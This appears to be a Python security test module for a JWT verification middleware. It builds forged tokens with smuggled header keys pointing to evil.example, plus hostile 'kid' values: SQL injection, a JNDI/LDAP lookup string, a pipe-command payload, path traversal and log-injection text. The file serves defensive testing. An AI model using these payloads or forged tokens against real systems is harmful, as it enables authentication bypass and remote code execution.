"""Keys in a token's header, and key IDs with other meanings (RFC 7515 section 4.1, RFC 8725 3.10)."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any, Final

from monocloud_mw.errors import Reason
from monocloud_mw.jose import SigningKey

from ..core.certificates import make_certificate, thumbprint_of
from .attack import ED, GOOD, STRANGER, Attack, token

__all__ = ["ATTACKS"]

CERTIFICATE: Final = make_certificate("mallory")
EVIL: Final = SigningKey.generate("ES256", "evil")

SMUGGLED: Final[dict[str, Any]] = {
    "jwk": STRANGER.public_jwk(),
    "jku": "https://evil.example/jwks",
    "x5u": "https://evil.example/chain.pem",
    "x5c": [base64.b64encode(CERTIFICATE).decode()],
    "x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "x5t#S256": thumbprint_of(CERTIFICATE),
    "keys": [STRANGER.public_jwk()],
    "jwks_uri": "https://evil.example/jwks",
    "iss": "https://evil.example",
}
OTHER_NAMES: Final = {
    "unknown": "nobody",
    "empty": "",
    "another case": "ED",
    "a space behind": "ed ",
    "a zero byte behind": "ed\0",
    "a homoglyph": "\u0435d",
    "a path": "../../../../dev/null",
    "a path with a scheme": "file:///dev/null",
    "SQL": "x' UNION SELECT 'secret' --",
    "a template": "${jndi:ldap://evil.example/x}",
    "a command": "|/usr/bin/id",
    "a URL": "https://evil.example/jwks",
    "a line feed": "ed\nINFO all is well",
    "a wildcard": "*",
    "very long": "k" * 2500,
}
NO_TEXT: Final[tuple[Any, ...]] = (None, True, 0, 5, 1.5, [], ["ed"], {}, {"kid": "ed"})


def _keys_in_headers() -> Iterator[Attack]:
    for name, value in SMUGGLED.items():
        for signer, key_id, reason in (
            (STRANGER, "ec", Reason.BAD_SIGNATURE),
            (STRANGER, ..., Reason.BAD_SIGNATURE),
            (EVIL, "evil", Reason.UNKNOWN_KEY),
        ):
            label = f"{name} in a header with {'no kid' if key_id is ... else f'kid {key_id}'}"
            forged = token(signer, {"kid": key_id, name: value}, {"sub": "admin"})
            yield Attack(label, forged, reason, token(ED, {name: value}))


def _names_of_keys() -> Iterator[Attack]:
    for name, value in OTHER_NAMES.items():
        yield Attack(f"kid: {name}", token(ED, {"kid": value}), Reason.UNKNOWN_KEY, GOOD)
    for value in NO_TEXT:
        yield Attack(f"kid: {value!r}", token(ED, {"kid": value}), Reason.MALFORMED, GOOD)
    yield Attack("kid: longer than a header", token(ED, {"kid": "k" * 9000}), Reason.MALFORMED, GOOD)


ATTACKS: Final = (*_keys_in_headers(), *_names_of_keys())
